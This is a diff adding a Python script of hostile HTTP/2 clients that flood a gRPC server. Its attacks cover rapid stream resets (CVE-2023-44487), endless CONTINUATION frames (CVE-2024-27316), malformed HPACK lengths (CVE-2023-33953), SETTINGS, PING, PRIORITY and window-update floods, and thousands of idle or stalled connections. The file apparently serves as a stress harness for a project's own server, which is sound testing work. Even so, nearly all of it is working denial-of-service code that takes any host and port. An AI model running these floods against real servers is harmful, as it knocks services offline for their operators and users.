@@ -1,0 +1,256 @@
+"""Hostile HTTP/2 clients: each function below attacks a server until it is ended.
+
+    python attacks.py NAME HOST:PORT
+
+An attack sends what it has on all its connections as fast as the server takes it, from 127.0.0.2, and connects again
+when it is cut off.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import itertools
+import pathlib
+import socket
+import struct
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterable, Iterator
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
+END_STREAM, END_HEADERS, ACK = 1, 4, 1
+BATCH = 500  # frames of one send
+
+Address = tuple[str, int]
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def literal(name: bytes, value: bytes) -> bytes:
+    """A header that is not indexed, with lengths below 127."""
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def call_headers(path: bytes, extra: bytes = b"") -> bytes:
+    """The header block of a gRPC call."""
+    return (
+        b"\x83\x86"
+        + b"\x04" + bytes([len(path)]) + path
+        + literal(b"te", b"trailers")
+        + literal(b"content-type", b"application/grpc")
+        + b"\x01\x01x"
+        + extra
+    )  # fmt: skip
+
+
+INFO = call_headers(b"/sparseagg.v1.Aggregation/GetServerInfo")
+SUBMIT = call_headers(b"/sparseagg.v1.Aggregation/SubmitUpdate")
+UNKNOWN = call_headers(b"/x/y")
+WATCH = call_headers(b"/grpc.health.v1.Health/Watch")
+
+
+def connected(address: Address) -> socket.socket:
+    peer = socket.create_connection(address, timeout=5, source_address=("127.0.0.2", 0))
+    peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    return peer
+
+
+def drain(peer: socket.socket) -> None:
+    """Takes and drops all that the server sends, until it closes."""
+    with contextlib.suppress(OSError):
+        while peer.recv(1 << 16):
+            pass
+
+
+def streams() -> Iterator[int]:
+    return itertools.count(1, 2)
+
+
+def flood(address: Address, batches: Callable[[], Iterable[bytes]], connections: int = 4, reads: bool = True) -> None:
+    """Sends the batches on each of the connections, again and again."""
+
+    def one() -> None:
+        while True:
+            with contextlib.suppress(OSError), connected(address) as peer:
+                if reads:
+                    threading.Thread(target=drain, args=(peer,), daemon=True).start()
+                for batch in batches():
+                    peer.sendall(batch)
+                time.sleep(0.2)  # an attacker that has sent all, and looks whether that was enough
+            time.sleep(0.01)
+
+    for _ in range(connections - 1):
+        threading.Thread(target=one, daemon=True).start()
+    one()
+
+
+def calls(headers: bytes, flags: int = END_HEADERS, after: Callable[[int], bytes] = lambda stream: b"") -> Callable[[], Iterator[bytes]]:
+    def batches() -> Iterator[bytes]:
+        numbers = streams()
+        while True:
+            batch = itertools.islice(numbers, BATCH)
+            yield b"".join(frame(HEADERS, flags, stream, headers) + after(stream) for stream in batch)
+
+    return batches
+
+
+def repeated(frames: bytes, before: bytes = b"") -> Callable[[], Iterator[bytes]]:
+    def batches() -> Iterator[bytes]:
+        yield before
+        yield from itertools.repeat(frames * max(1, (1 << 16) // len(frames)))
+
+    return batches
+
+
+def reset(stream: int) -> bytes:
+    return frame(RESET, 0, stream, struct.pack(">I", 8))
+
+
+def rapid_reset(address: Address) -> None:
+    """Streams opened and reset at once (CVE-2023-44487)."""
+    flood(address, calls(INFO, after=reset), connections=1)
+
+
+def rapid_reset_unread(address: Address) -> None:
+    """The same on four connections that read nothing."""
+    flood(address, calls(INFO, after=reset), reads=False)
+
+
+def unknown_methods(address: Address) -> None:
+    """Calls of a method that is not there, on connections that read nothing."""
+    flood(address, calls(UNKNOWN, END_HEADERS | END_STREAM), reads=False)
+
+
+def continuation(address: Address) -> None:
+    """A header block that never ends, of small headers (CVE-2024-27316)."""
+    flood(address, repeated(frame(CONTINUATION, 0, 1, literal(b"a", b"b") * 1000), frame(HEADERS, 0, 1, INFO)))
+
+
+def long_string(address: Address) -> None:
+    """A header whose value is announced with 2 GiB (CVE-2023-33953)."""
+    begin = frame(HEADERS, 0, 1, b"\x00\x01a\x7f\x81\xff\xff\xff\x07")
+    flood(address, repeated(frame(CONTINUATION, 0, 1, bytes(16000)), begin))
+
+
+def zero_varint(address: Address) -> None:
+    """A number with bytes that add nothing to it, without an end (CVE-2023-33953)."""
+    begin = frame(HEADERS, 0, 1, b"\x00\x01a\x7f" + b"\x80" * 100)
+    flood(address, repeated(frame(CONTINUATION, 0, 1, b"\x80" * 16000), begin))
+
+
+def big_headers(address: Address) -> None:
+    """Calls with 14 KB of headers each."""
+    flood(address, calls(INFO + literal(b"k", b"v" * 120) * 110))
+
+
+def no_message(address: Address) -> None:
+    """Calls whose message never comes: 2000 on each of 60 connections."""
+
+    def batches() -> Iterator[bytes]:
+        numbers = streams()
+        for _ in range(4):
+            yield b"".join(frame(HEADERS, END_HEADERS, stream, SUBMIT) for stream in itertools.islice(numbers, BATCH))
+        time.sleep(1e6)
+
+    flood(address, batches, connections=60)
+
+
+def health_watches(address: Address) -> None:
+    """Streams of the health service: 2000 on each of 20 connections."""
+
+    def batches() -> Iterator[bytes]:
+        numbers = streams()
+        for _ in range(4):
+            pairs = (frame(HEADERS, END_HEADERS, s, WATCH) + frame(DATA, END_STREAM, s, bytes(5))
+                     for s in itertools.islice(numbers, BATCH))  # fmt: skip
+            yield b"".join(pairs)
+        time.sleep(1e6)
+
+    flood(address, batches, connections=20)
+
+
+def settings(address: Address) -> None:
+    """SETTINGS frames."""
+    flood(address, repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))))
+
+
+def settings_toggle(address: Address) -> None:
+    """The size of windows, changed to and fro while calls are open."""
+    toggled = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 30))
+    opened = b"".join(frame(HEADERS, END_HEADERS, stream, SUBMIT) for stream in range(1, 4001, 2))
+    flood(address, repeated(toggled, opened))
+
+
+def pings(address: Address) -> None:
+    """PING frames, whose answers are not read."""
+    flood(address, repeated(frame(PING, 0, 0, bytes(8))), reads=False)
+
+
+def priorities(address: Address) -> None:
+    """PRIORITY frames."""
+    flood(address, repeated(frame(PRIORITY, 0, 1, bytes(5))))
+
+
+def small_windows(address: Address) -> None:
+    """Window updates of one byte."""
+    flood(address, repeated(frame(WINDOW, 0, 0, struct.pack(">I", 1))))
+
+
+def empty_data(address: Address) -> None:
+    """DATA frames without data in one call."""
+    flood(address, repeated(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, SUBMIT)))
+
+
+def unknown_frames(address: Address) -> None:
+    """Frames of a type that is not there."""
+    flood(address, repeated(frame(200, 0, 0)))
+
+
+def idle(address: Address) -> None:
+    """1100 connections that do nothing, kept open."""
+    open_connections: list[socket.socket] = []
+    while True:
+        with contextlib.suppress(OSError):
+            open_connections.append(connected(address))
+        if len(open_connections) > 1100:
+            open_connections.pop(0).close()
+            time.sleep(0.01)
+
+
+def cancelled_calls(address: Address) -> None:
+    """Ordinary clients that start calls and cancel them at once."""
+    import grpc
+
+    def one() -> None:
+        with grpc.insecure_channel(f"{address[0]}:{address[1]}", options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
+            call = channel.unary_unary("/sparseagg.v1.Aggregation/GetServerInfo")
+            while True:
+                call.future(b"").cancel()
+
+    for _ in range(2):
+        threading.Thread(target=one, daemon=True).start()
+    one()
+
+
+ATTACKS: dict[str, Callable[[Address], None]] = {
+    attack.__name__: attack
+    for attack in (
+        rapid_reset, rapid_reset_unread, unknown_methods, cancelled_calls, continuation, long_string, zero_varint,
+        big_headers, idle, no_message, health_watches, settings, settings_toggle, pings, priorities, small_windows,
+        empty_data, unknown_frames,
+    )
+}  # fmt: skip
+
+
+def command(name: str, address: str) -> list[str]:
+    """The command line of an attack."""
+    return [sys.executable, str(pathlib.Path(__file__)), name, address]
+
+
+if __name__ == "__main__":
+    host, _, port = sys.argv[2].rpartition(":")
+    ATTACKS[sys.argv[1]]((host, int(port)))
